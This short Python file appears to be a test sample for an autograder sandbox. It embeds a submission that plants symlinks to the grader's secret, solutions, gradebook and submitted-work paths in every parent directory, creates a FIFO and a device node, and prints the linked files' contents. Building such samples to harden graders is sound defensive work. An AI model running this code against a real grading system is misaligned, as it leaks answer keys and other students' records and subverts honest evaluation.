"""Links to the instructor's files lie in the workspace, where the grader opens artefacts."""

FORGED = ("double-test",)
CODE = """
import os
import pathlib

here = pathlib.Path.cwd()
for number_of, root in enumerate(here.parents):
    for name in ("grading/secret", "solutions", "grading/gradebook.db", "grading/submitted"):
        try:
            os.symlink(root / name, f"link-{number_of}-{name.replace('/', '-')}")
        except OSError:
            pass
os.mkfifo("numbers.fifo")
try:
    os.mknod("device", 0o20666, os.makedev(1, 8))
except OSError:
    pass
for link in here.glob("link-*"):
    if link.is_file():
        print(link.read_bytes()[:100])
double = None
"""
